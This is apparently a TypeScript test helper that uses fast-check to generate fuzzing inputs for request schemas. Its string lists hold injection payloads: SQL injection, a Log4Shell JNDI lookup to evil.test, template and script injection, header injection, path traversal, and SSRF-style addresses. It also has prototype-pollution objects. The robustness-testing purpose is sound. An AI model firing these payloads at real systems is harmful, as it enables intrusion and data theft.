import fc from 'fast-check';

/** The part of JSON Schema that the contract's requests use. */
export interface RequestSchema {
  readonly type?: string;
  readonly properties?: Readonly<Record<string, RequestSchema>>;
  readonly items?: RequestSchema;
  readonly enum?: readonly unknown[];
  readonly maxItems?: number;
  readonly minimum?: number;
  readonly maximum?: number;
}

const addresses = [
  'https://site.test/',
  'site.test',
  'http://127.0.0.1/',
  'http://[::1]:6379/',
  'file:///etc/passwd',
  'https://youtu.be/dQw4w9WgXcQ',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  'javascript:alert(1)',
  'https://user:secret@site.test/',
  `https://site.test/${'x'.repeat(2_100)}`,
];

/** Strings known to break parsers, logs, databases and pages. */
const hostileTexts = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\u2028\u2029\ufeff\u202e',
  '\ud800',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '%s%s%n',
  "' OR 1=1 --",
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\r\nX-Injected: 1',
  '*'.repeat(100_000),
  'é'.repeat(50_000),
  '[object Object]',
  'NaN',
];

export const anyText = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 3, arbitrary: fc.constantFrom(...addresses) },
);

/** Generates values of any type, size and depth that no request of the contract has. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  anyText,
  fc.constantFrom<unknown>(null, true, false, 0, -0, -1, 1e308, -1e-308, 2 ** 53, 0.1, {}, [], [[]], [null]),
  fc.jsonValue({ maxDepth: 3 }),
  fc.integer({ min: 1, max: 200 }).map(nested),
  fc.integer({ min: 0, max: 1_200 }).map((length) => Array.from({ length }, () => 'https://site.test/')),
  fc.constantFrom(
    JSON.parse('{"__proto__": {"polluted": 1}}') as unknown,
    { constructor: { prototype: { polluted: 1 } } },
    { toString: 1, valueOf: 1, hasOwnProperty: 1, toJSON: 1, then: 1 },
    { length: 1e9 },
    { lc: 1, type: 'constructor', id: ['langchain'], kwargs: {} },
  ),
);

function nested(levels: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < levels; level++) value = level % 2 ? [value] : { a: value };
  return value;
}

/**
 * Generates values that match a schema, or nearly: any node may be replaced, any object may lack fields or have extra
 * ones.
 */
export function valueArbitrary(schema: RequestSchema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 8, arbitrary: matchingValue(schema) }, { weight: 1, arbitrary: anyValue });
}

function matchingValue(schema: RequestSchema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.type === 'object') return objectOf(schema.properties ?? {});
  if (schema.type === 'array') return fc.array(valueArbitrary(schema.items ?? {}), { maxLength: 6 });
  if (schema.type === 'integer') return fc.integer({ min: schema.minimum ?? 0, max: schema.maximum ?? 10 });
  if (schema.type === 'string') return anyText;
  return anyValue;
}

function objectOf(properties: Readonly<Record<string, RequestSchema>>): fc.Arbitrary<unknown> {
  const knownFields = Object.fromEntries(
    Object.entries(properties).map(([name, inner]) => [name, valueArbitrary(inner)]),
  );
  const extraFields = fc.dictionary(anyText, anyValue, { maxKeys: 2 });
  return fc
    .tuple(fc.record(knownFields, { requiredKeys: [] }), fc.record(knownFields), extraFields, fc.nat(9))
    .map(([some, all, extra, dice]) => {
      if (dice < 6) return all;
      return dice < 8 ? some : { ...all, ...extra };
    });
}
